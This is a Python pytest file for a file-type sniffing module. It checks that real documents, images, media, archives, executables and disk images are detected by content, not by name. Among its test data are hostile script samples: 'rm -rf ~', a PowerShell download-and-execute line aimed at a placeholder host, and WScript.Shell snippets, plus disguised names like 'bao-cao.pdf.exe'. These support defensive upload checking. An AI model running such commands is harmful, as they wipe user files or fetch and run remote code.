"""Content sniffing: every format made by the library or tool that really makes it."""

from __future__ import annotations

import io
import shutil
import struct
import subprocess
import wave
import zipfile

import pytest
from docx import Document
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from PIL import Image
from pptx import Presentation
from reportlab.pdfgen import canvas

from tests.factories import cp1258
from tinbai.filekinds import EXECUTABLE_TYPES, TYPES
from tinbai.parsers import sniff
from tinbai.parsers.sniff import detect_type, extension_of, is_executable_name, same_format

VI = "Cục Thi hành án dân sự tỉnh Thái Nguyên thông báo lịch tiếp công dân tháng 5/2025."


# ---------------------------------------------------------------- makers

def _picture(fmt: str, **kw) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(out, fmt, **kw)
    return out.getvalue()


def _docx(vba: bool = False) -> bytes:
    doc = Document()
    doc.add_paragraph(VI)
    out = io.BytesIO()
    doc.save(out)
    if not vba:
        return out.getvalue()
    # the same package with a VBA project part, as Word writes it into a .docm
    src = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    dst_buf = io.BytesIO()
    with zipfile.ZipFile(dst_buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            dst.writestr(item, data)
        dst.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504)
    return dst_buf.getvalue()


def _xlsx() -> bytes:
    wb = Workbook()
    wb.active["A1"] = VI
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _pptx() -> bytes:
    prs = Presentation()
    slide = prs.slides.add_slide(prs.slide_layouts[1])
    slide.shapes.title.text = VI
    out = io.BytesIO()
    prs.save(out)
    return out.getvalue()


def _odf(kind: str) -> bytes:
    from odf.opendocument import OpenDocumentPresentation, OpenDocumentSpreadsheet, OpenDocumentText
    from odf.text import P

    doc = {"odt": OpenDocumentText, "ods": OpenDocumentSpreadsheet, "odp": OpenDocumentPresentation}[kind]()
    if kind == "odt":
        doc.text.addElement(P(text=VI))
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def _pdf() -> bytes:
    out = io.BytesIO()
    c = canvas.Canvas(out)
    c.drawString(72, 720, "Thong bao")
    c.showPage()
    c.save()
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def _pe() -> bytes:
    """A minimal PE image: DOS header pointing at a PE signature and a COFF header."""
    dos = bytearray(64)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3C, 64)
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    return bytes(dos) + b"PE\0\0" + coff + b"\0" * 300


def _wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(8000)
        w.writeframes(b"\0\1" * 4000)
    return out.getvalue()


@pytest.fixture(scope="module")
def media(tmp_path_factory) -> dict[str, bytes]:
    """Sound and video files written by ffmpeg, one per container."""
    if not shutil.which("ffmpeg"):
        pytest.skip("ffmpeg is not installed")
    folder = tmp_path_factory.mktemp("media")
    sine = ["-f", "lavfi", "-i", "sine=frequency=440:duration=0.5"]
    video = ["-f", "lavfi", "-i", "testsrc=duration=0.5:size=64x48:rate=25"]
    recipes = {
        "mp3": [*sine, "-c:a", "libmp3lame"],
        "mp3-bare.mp3": [*sine, "-c:a", "libmp3lame", "-id3v2_version", "0", "-write_xing", "0"],
        "wma": [*sine, "-c:a", "wmav2"],
        "m4a": [*sine, "-c:a", "aac"],
        "flac": [*sine, "-c:a", "flac"],
        "ogg": [*sine, "-c:a", "libvorbis"],
        "aac": [*sine, "-c:a", "aac", "-f", "adts"],
        "mp4": [*video, "-c:v", "mpeg4"],
        "mov": [*video, "-c:v", "mpeg4", "-f", "mov"],
        "mpg": [*video, "-c:v", "mpeg1video", "-f", "mpeg"],
        "avi": [*video, "-c:v", "mpeg4"],
        "wmv": [*video, "-c:v", "wmv2"],
        "mkv": [*video, "-c:v", "mpeg4"],
        "webm": [*video, "-c:v", "libvpx"],
        "ts": [*video, "-c:v", "mpeg1video", "-f", "mpegts"],
        "flv": [*video, "-c:v", "flv1"],
        "3gp": [*video, "-c:v", "mpeg4", "-f", "3gp"],
    }
    files = {}
    for name, args in recipes.items():
        path = folder / (name if "." in name else f"out.{name}")
        subprocess.run(["ffmpeg", "-v", "error", "-y", *args, str(path)], check=True, timeout=60)
        files[name] = path.read_bytes()
    return files


# ---------------------------------------------------------------- documents and pictures

@pytest.mark.parametrize(
    ("maker", "expected"),
    [
        (_docx, "docx"),
        (lambda: _docx(vba=True), "docm"),
        (_xlsx, "xlsx"),
        (_pptx, "pptx"),
        (lambda: _odf("odt"), "odt"),
        (lambda: _odf("ods"), "ods"),
        (lambda: _odf("odp"), "odp"),
        (_pdf, "pdf"),
        (lambda: _picture("JPEG"), "jpg"),
        (lambda: _picture("PNG"), "png"),
        (lambda: _picture("GIF"), "gif"),
        (lambda: _picture("BMP"), "bmp"),
        (lambda: _picture("TIFF"), "tiff"),
        (lambda: _picture("WEBP"), "webp"),
        (lambda: _zip({"tin.txt": VI.encode()}), "zip"),
        (lambda: _zip({"META-INF/MANIFEST.MF": b"Main-Class: A\n", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}),
         "jar"),
        (lambda: _zip({"AndroidManifest.xml": b"\3\0", "classes.dex": b"dex\n035\0"}), "apk"),
        (_wav, "wav"),
        (_pe, "exe"),
        (lambda: b"\x7fELF\2\1\1\0" + b"\0" * 120, "elf"),
        (lambda: b"\xcf\xfa\xed\xfe\x07\0\0\x01" + b"\0" * 120, "macho"),
        (lambda: b"\xca\xfe\xba\xbe\0\0\0\x02" + b"\0" * 120, "macho"),  # universal binary, 2 architectures
        (lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 120, "class"),  # Java 8 class file
        (lambda: b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F" + b"\0" * 60, "lnk"),
        (lambda: b"Rar!\x1a\x07\x01\0" + b"\0" * 40, "rar"),
        (lambda: b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 40, "7z"),
        (lambda: __import__("gzip").compress(VI.encode()), "gz"),
        (lambda: b"", "empty"),
        (lambda: bytes(range(256)) * 8, "unknown"),
    ],
)
def test_detects_made_files(maker, expected):
    assert detect_type(maker()) == expected


def test_name_never_overrides_content():
    assert detect_type(_pe(), "bao-cao.pdf") == "exe"
    assert detect_type(_picture("JPEG"), "anh.png") == "jpg"
    assert detect_type(_docx(), "tin.pdf") == "docx"


def test_truncated_office_file_keeps_its_type():
    """A docx cut short in transit (no central directory) is still a docx: unreadable, not a mismatch."""
    data = _docx()
    assert detect_type(data[: len(data) // 2]) == "docx"
    odt = _odf("odt")
    assert detect_type(odt[: len(odt) // 2]) == "odt"


def test_encrypted_ooxml_takes_the_kind_from_the_name():
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(_xlsx())).encrypt("mat-khau", out)
    data = out.getvalue()
    assert data[:4] == b"\xd0\xcf\x11\xe0"
    assert detect_type(data, "so lieu.xlsx") == "xlsx"
    assert detect_type(data, "tin.docx") == "docx"
    assert detect_type(data) == "docx"


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("mp3", "mp3"), ("mp3-bare.mp3", "mp3"), ("wma", "wma"), ("m4a", "m4a"), ("flac", "flac"),
        ("ogg", "ogg"), ("aac", "aac"), ("mp4", "mp4"), ("mov", "mov"), ("mpg", "mpg"), ("avi", "avi"),
        ("wmv", "wmv"), ("mkv", "mkv"), ("webm", "webm"), ("ts", "ts"), ("flv", "flv"), ("3gp", "3gp"),
    ],
)  # fmt: skip
def test_detects_sound_and_video(media, name, expected):
    assert detect_type(media[name]) == expected


# ---------------------------------------------------------------- text, markup and scripts


@pytest.mark.parametrize(
    "data",
    [
        VI.encode("utf-8"),
        VI.encode("utf-8-sig"),
        VI.encode("utf-16"),
        VI.encode("utf-16-le"),  # Notepad "Unicode" without its BOM
        VI.encode("utf-16-be"),
        cp1258(VI),
        b"Th\xabng b\xb8o l\xfch ti\xd5p c\xabng d\xa9n",  # TCVN3 bytes
        "Mã;Đơn vị;Số việc;\n1;Phòng THADS khu vực 1;300;\n2;Phòng THADS khu vực 2;317;\n".encode(),  # CSV
        b"Ngay 5/12/2025; Phong THADS to chuc cuong che;\nKet qua: an toan;\n",
    ],
)
def test_plain_text_of_any_encoding_is_txt(data):
    assert detect_type(data) == "txt"


@pytest.mark.parametrize(
    ("text", "name", "expected"),
    [
        ("<!DOCTYPE html><html><body><p>Tin bài</p></body></html>", None, "html"),
        ("<p>Kính gửi Ban Biên tập</p><p>Tin bài</p>", None, "html"),
        ('<?xml version="1.0"?><Properties><TitlesOfParts/></Properties>', None, "xml"),
        ('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>', None, "html"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><text>Tin</text></svg>', None, "svg"),
        ("#!/bin/sh\nrm -rf ~\n", None, "script"),
        ("@echo off\r\nset X=1\r\ncopy a b\r\n", None, "script"),
        ('var sh = new ActiveXObject("WScript.Shell");\nWScript.Echo("x");\n', "huong-dan.txt", "script"),
        ('Set o = CreateObject("WScript.Shell")\no.Run "calc"\n', None, "script"),
        ("$c = New-Object System.Net.WebClient\nIEX $c.DownloadString('http://x/y')\n", None, "script"),
        ("<html><head><HTA:APPLICATION ID='x'></head><body></body></html>", None, "script"),
        ("echo test\n", "thads.sh", "script"),  # the name makes Windows or a shell run it
        (VI, "tin.js", "script"),
        (VI + "\n" + VI, "tin.txt", "txt"),
    ],
)
def test_markup_and_scripts(text, name, expected):
    assert detect_type(text.encode("utf-8"), name) == expected


# ---------------------------------------------------------------- names

@pytest.mark.parametrize(
    ("name", "ext"),
    [
        ("Tin bài.DOCX", "docx"),
        ("bao-cao.pdf.exe", "exe"),
        ("virus.exe. . ", "exe"),  # Windows drops trailing dots and spaces
        ("anh/anh 1.JPG", "jpg"),
        ("..\\..\\x.bat", "bat"),
        ("Tin ngay 28.4.2025", None),
        ("Bao cao 1.5 trieu", None),
        ("README", None),
        (None, None),
        (".bashrc", "bashrc"),
    ],
)
def test_extension_of(name, ext):
    assert extension_of(name) == ext


@pytest.mark.parametrize(
    ("ext", "detected", "same"),
    [
        ("jpeg", "jpg", True), ("jpg", "jpg", True), ("tif", "tiff", True), ("htm", "html", True),
        ("mpeg", "mpg", True), ("dotx", "docx", True), ("pps", "ppt", True), ("csv", "txt", True),
        ("dll", "exe", True), ("js", "script", True),
        ("png", "jpg", False), ("pdf", "exe", False), ("docx", "docm", False), ("docm", "docx", False),
        ("mp4", "mov", False), ("txt", "script", False), ("doc", "html", False), ("pdf", "unknown", False),
        (None, "pdf", True), ("xyz", "pdf", True), ("docx", "empty", True),
    ],
)  # fmt: skip
def test_same_format(ext, detected, same):
    assert same_format(ext, detected) is same


@pytest.mark.parametrize(
    ("name", "executable"),
    [
        ("setup.exe", True), ("anh.scr", True), ("tai-lieu.pdf.js", True), ("a.HTA", True), ("x.lnk", True),
        ("app.apk", True), ("b.ps1", True), ("c.vbs", True), ("d.jar", True), ("e.msi", True), ("f.sh", True),
        ("tin.docx", False), ("anh.jpg", False), ("bao cao.pdf", False), ("README", False), (None, False),
    ],
)  # fmt: skip
def test_is_executable_name(name, executable):
    assert is_executable_name(name) is executable


def test_vocabulary_is_consistent():
    assert {"pdf", "docx", "doc", "jpg", "mp3", "zip", "rar", "7z", "exe", "unknown", "empty"} <= TYPES
    assert EXECUTABLE_TYPES <= TYPES
    assert all(sniff.mime_of(t) for t in TYPES)
    assert sniff.mime_of("docx").endswith("wordprocessingml.document")


# ---------------------------------------------------------------- any bytes

@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=3000), st.sampled_from([None, "a.pdf", "x.js", "tin.docx", "b"]))
def test_any_bytes_get_a_type_of_the_vocabulary(data, name):
    assert detect_type(data, name) in TYPES


_MAGICS = [
    b"MZ", b"\x7fELF", b"\xca\xfe\xba\xbe", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x03\x04", b"%PDF-",
    b"{\\rtf", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"GIF89a", b"II*\0", b"RIFF", b"BM", b"\0\0\0\x18ftyp",
    b"ID3", b"\xff\xfb", b"OggS", b"\x1a\x45\xdf\xa3", b"Rar!\x1a\x07", b"7z\xbc\xaf\x27\x1c", b"\xff\xfe", b"G",
    b"0&\xb2u\x8ef\xcf\x11\xa6\xd9\x00\xaa\x00b\xcel", b"L\0\0\0\x01\x14\x02\0",
]


@settings(max_examples=400, deadline=None)
@given(st.sampled_from(_MAGICS), st.binary(max_size=1200))
def test_magic_numbers_followed_by_anything(magic, rest):
    assert detect_type(magic + rest) in TYPES


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=2000))
def test_any_text_gets_a_type_of_the_vocabulary(text):
    assert detect_type(text.encode("utf-8")) in TYPES


# ---------------------------------------------------------------- disk images
# written by hand to the layouts their specifications give (no ISO or FAT tool on these machines)


def iso9660() -> bytes:
    """ECMA-119: 16 sectors of system area, a primary volume descriptor, the set terminator."""
    pvd = b"\x01CD001\x01\x00" + b"TINBAI".ljust(32) + b"TIN BAI 2025".ljust(32)
    terminator = b"\xffCD001\x01"
    return b"\0" * 16 * 2048 + pvd.ljust(2048, b"\0") + terminator.ljust(2048, b"\0")


def fat12_floppy() -> bytes:
    """A 1.44 MB floppy's boot sector (jump, OEM name, BIOS parameter block, "FAT12", 55 AA)."""
    bpb = struct.pack("<HBHBHHBHHHII", 512, 1, 1, 2, 224, 2880, 0xF0, 9, 18, 2, 0, 0)
    ebpb = b"\x00\x00\x29" + b"\x12\x34\x56\x78" + b"NO NAME    " + b"FAT12   "
    sector = (b"\xeb\x3c\x90" + b"MSDOS5.0" + bpb + ebpb).ljust(510, b"\0") + b"\x55\xaa"
    return sector + b"\0" * 4096


def mbr_disk() -> bytes:
    """A disk with an MBR: one active FAT32 (LBA) partition from sector 2048."""
    entry = bytes([0x80, 0, 0, 0, 0x0C, 0, 0, 0]) + struct.pack("<II", 2048, 65536)
    return (b"\0" * 446 + entry + b"\0" * 48 + b"\x55\xaa").ljust(4096, b"\0")


@pytest.mark.parametrize(("maker", "expected"), [(iso9660, "iso"), (fat12_floppy, "img"), (mbr_disk, "img")])
def test_disk_images(maker, expected) -> None:
    assert detect_type(maker(), "tai lieu.pdf") == expected
    assert sniff.canonical_type(expected) == expected


def test_two_bytes_at_510_are_no_disk() -> None:
    data = bytearray(b"\x11" * 1024)
    data[510:512] = b"\x55\xaa"
    assert detect_type(bytes(data)) != "img"
